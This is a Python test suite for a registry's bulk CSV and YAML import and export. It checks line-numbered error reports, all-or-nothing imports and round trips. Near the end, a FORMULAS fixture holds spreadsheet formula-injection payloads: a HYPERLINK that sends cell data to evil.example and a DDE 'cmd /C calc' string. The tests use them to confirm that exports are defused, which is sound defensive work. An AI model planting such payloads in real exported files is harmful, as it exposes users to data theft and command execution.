"""Bulk import and export: every bad row reported by line, nothing imported when any row is bad."""

from __future__ import annotations

import csv
import io

import aiohttp
import pytest
import yaml
from harness import RunningBridge

from devices.csv_yaml import MalformedFile, parse_csv, parse_yaml, to_csv, to_yaml

RESIDENTS_CSV = """id,name,address,key_safe,language,responders
res-1,Ada,"1 Mill Lane, Leeds",code 1234,en-GB,Tom=+447700900123;Ann=+447700900456
res-2,Bob,2 Mill Lane,,cy,
"""
DEVICES_CSV = """id,kind,resident_id,phone,imei,heartbeat_interval_s,peripherals
unit-1,gsm_unit,res-1,+447700900001,490154203237518,900,p1:pendant@neck;s1:smoke@hall
unit-2,ip_unit,res-2,,,600,
echo-1,alexa,res-1,,,,
"""
BAD_DEVICES_CSV = """id,kind,resident_id,phone,imei,heartbeat_interval_s,peripherals
unit-1,gsm_unit,res-1,+447700900001,,900,p1:pendant
unit 2,ip_unit,,,,,
unit-3,gsm_unit,nobody,07700900003,,,
unit-4,gsm_unit,,+447700900001,,,
unit-1,ip_unit,,,,,
unit-5,toaster,,,,abc,p1
unit-6,gsm_unit
"""


def test_csv_reports_every_bad_row_by_line() -> None:
    batch = parse_csv(BAD_DEVICES_CSV, "devices")
    by_line = {(e.line, e.field) for e in batch.errors}
    assert (3, "id") in by_line  # "unit 2"
    assert (4, "phone") in by_line  # not E.164
    assert (6, "id") in by_line  # unit-1 again
    assert {(7, "kind"), (7, "peripherals")} & by_line  # two problems on one row
    assert (8, "(row)") in by_line  # too few cells
    assert all(e.kind == "devices" for e in batch.errors)
    assert "line 6 (devices): id: 'unit-1' is already on line 2" in [str(e) for e in batch.errors]


def test_csv_quoted_newlines_keep_line_numbers() -> None:
    text = 'id,name,address\nr1,Ada,"1 Mill Lane\nLeeds"\nr 2,Bob,x\n'
    batch = parse_csv(text, "residents")
    assert [(e.line, e.field) for e in batch.errors] == [(4, "id")]
    assert batch.residents[0][1].address == "1 Mill Lane\nLeeds"


@pytest.mark.parametrize("text", ["", "name,colour\nAda,red\n", 'id,name\nr1,"unterminated\n'])
def test_malformed_csv(text: str) -> None:
    try:
        batch = parse_csv(text, "residents")
    except MalformedFile as exc:
        assert "line 1" in str(exc) or "empty" in str(exc)
    else:
        assert batch.errors and batch.errors[0].line == 2


@pytest.mark.parametrize(
    "text, expect",
    [
        ("residents: [", "not YAML"),
        ("- just\n- a list\n", "expected a mapping"),
        ("residents:\n  - id: r1\n    name: [unclosed\n", "not YAML"),
    ],
)
def test_malformed_yaml(text: str, expect: str) -> None:
    with pytest.raises(MalformedFile, match=expect):
        parse_yaml(text)


def test_yaml_rows_report_their_lines() -> None:
    text = """residents:
  - id: r1
    name: Ada
    responders:
      - {name: Tom, phone: "07700 900123"}
devices:
  - id: u1
    kind: gsm_unit
  - just a string
  - id: u1
    kind: ip_unit
gadgets: []
"""
    batch = parse_yaml(text)
    assert [(e.line, e.field) for e in batch.errors] == [
        (2, "responders.0.phone"),
        (9, "(record)"),
        (10, "id"),
        (12, "gadgets"),
    ]


def test_export_round_trips() -> None:
    residents = [r for _, r in parse_csv(RESIDENTS_CSV, "residents").residents]
    devices = [d for _, d in parse_csv(DEVICES_CSV, "devices").devices]
    again = parse_csv(to_csv("residents", residents), "residents")
    assert [r for _, r in again.residents] == residents
    again = parse_csv(to_csv("devices", devices), "devices")
    assert [d for _, d in again.devices] == devices
    both = parse_yaml(to_yaml(residents, devices))
    assert both.ok and [r for _, r in both.residents] == residents and [d for _, d in both.devices] == devices


async def post_file(b: RunningBridge, query: str, text: str) -> tuple[int, dict[str, object]]:
    token = await b.token("ian", "installer")
    async with b.session.post(
        f"{b.url}/api/v1/registry/import?{query}",
        data=text.encode(),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "text/plain"},
    ) as resp:
        return resp.status, await resp.json()


async def counts(b: RunningBridge) -> tuple[int, int]:
    async with b.store.read() as tx:
        r = await tx.fetchone("SELECT COUNT(*) AS n FROM residents")
        d = await tx.fetchone("SELECT COUNT(*) AS n FROM devices")
    return int(r["n"]), int(d["n"])


async def test_import_through_the_api(embedded_bridge: RunningBridge) -> None:
    b = embedded_bridge
    # Devices first: their residents are unknown, so every device row is reported and nothing is written.
    status, report = await post_file(b, "format=csv&kind=devices", DEVICES_CSV)
    assert status == 422 and not report["applied"]
    assert [(e["line"], e["field"]) for e in report["errors"]] == [
        (2, "resident_id"),
        (3, "resident_id"),
        (4, "resident_id"),
    ]
    assert await counts(b) == (0, 0)
    # A dry run of good rows reports what would happen and writes nothing.
    status, report = await post_file(b, "format=csv&kind=residents&dry_run=1", RESIDENTS_CSV)
    assert status == 200 and report["created"]["residents"] == 2 and not report["applied"]
    assert await counts(b) == (0, 0)
    status, report = await post_file(b, "format=csv&kind=residents", RESIDENTS_CSV)
    assert status == 200 and report["applied"]
    status, report = await post_file(b, "format=csv&kind=devices", DEVICES_CSV)
    assert status == 200 and report["created"]["devices"] == 3
    assert await counts(b) == (2, 3)
    # One bad row among good ones: nothing of the file is imported.
    mixed = DEVICES_CSV.replace("unit-1", "unit-7").replace("unit-2", "unit-8").replace("echo-1", "echo-9")
    mixed = mixed.replace("+447700900001", "+447700900777") + "unit-9,gsm_unit,res-1,+447700900001,,,\n"
    status, report = await post_file(b, "format=csv&kind=devices", mixed)
    assert status == 422 and [(e["line"], e["field"]) for e in report["errors"]] == [
        (2, "imei"),
        (5, "phone"),
    ]
    assert await counts(b) == (2, 3)
    # Importing the same ids again without update is refused row by row; with update it changes them.
    status, report = await post_file(b, "format=csv&kind=residents", RESIDENTS_CSV.replace("Ada", "Ada L"))
    assert status == 422 and {e["line"] for e in report["errors"]} == {2, 3}
    status, report = await post_file(
        b, "format=csv&kind=residents&update=1", RESIDENTS_CSV.replace("Ada", "Ada L")
    )
    assert status == 200 and report["updated"]["residents"] == 2
    # Export as YAML, and import it into an empty registry as a whole site.
    status, text = await b.call("GET", "/api/v1/registry/export?format=yaml", user="ian", role="installer")
    assert status == 200
    doc = yaml.safe_load(text)
    assert doc["residents"][0]["name"] == "Ada L" and len(doc["devices"]) == 3
    status, report = await post_file(b, "format=yaml", "residents: [")
    assert status == 422 and report["error"] == "malformed file"
    status, report = await post_file(b, "format=xml", "<x/>")
    assert status == 422


async def test_import_needs_text(embedded_bridge: RunningBridge) -> None:
    b = embedded_bridge
    token = await b.token("ian", "installer")
    async with b.session.post(
        f"{b.url}/api/v1/registry/import?format=csv&kind=residents",
        data=b"\xff\xfe\x00id",
        headers={"Authorization": f"Bearer {token}"},
    ) as resp:
        assert resp.status == 422
    async with (
        aiohttp.ClientSession() as session,
        session.get(
            f"{b.url}/api/v1/registry/export?format=csv&kind=devices",
            headers={"Authorization": f"Bearer {token}"},
        ) as resp,
    ):
        assert resp.status == 200 and (await resp.text()).startswith("id,kind,resident_id")


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Ada")',
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "key_safe": "+1942",
    "medical_notes": "-2+3 insulin",
}


def test_csv_cells_never_start_a_formula_and_import_back_unchanged() -> None:
    from devices.csv_yaml import safe_cell, unquote_cell
    from devices.registry import Resident

    for value in ["=1+1", "+44", "-x", "@x", "\tx", "'=x", "''+x", "plain", "it's", "'plain", ""]:
        cell = safe_cell(value)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), value
        assert unquote_cell(cell) == value
    responders = [{"name": "=Tom", "phone": "+447700900123"}]
    resident = Resident.model_validate({"id": "res-f", **FORMULAS, "responders": responders})
    text = to_csv("residents", [resident])
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row), row
    again = parse_csv(text, "residents")
    assert again.ok and [r for _, r in again.residents] == [resident]


async def test_api_csv_export_defuses_formula_cells(embedded_bridge: RunningBridge) -> None:
    b = embedded_bridge
    status, _ = await b.call(
        "POST", "/api/v1/residents", user="ian", role="installer", json={"id": "res-f", **FORMULAS}
    )
    assert status == 201
    status, _ = await b.call(
        "POST",
        "/api/v1/devices",
        user="ian",
        role="installer",
        json={"id": "unit-f", "kind": "gsm_unit", "resident_id": "res-f", "phone": "+447700900001"},
    )
    assert status == 201
    for kind in ("residents", "devices"):
        # As an admin, who may see every field (an installer's export leaves out the key safe).
        status, text = await b.call(
            "GET", f"/api/v1/registry/export?format=csv&kind={kind}", user="root", role="admin"
        )
        assert status == 200
        rows = list(csv.DictReader(io.StringIO(text)))
        for row in rows:
            assert all(not v.startswith(("=", "+", "-", "@")) for v in row.values()), row
        if kind == "residents":
            assert rows[0]["name"] == "'" + FORMULAS["name"] and rows[0]["key_safe"] == "'+1942"
            status, report = await post_file(b, "format=csv&kind=residents&update=1", text)
            assert status == 200 and report["updated"]["residents"] == 1
            status, body = await b.call("GET", "/api/v1/residents/res-f", user="root", role="admin")
            assert {k: body[k] for k in FORMULAS} == FORMULAS
        else:
            assert rows[0]["phone"] == "'+447700900001"
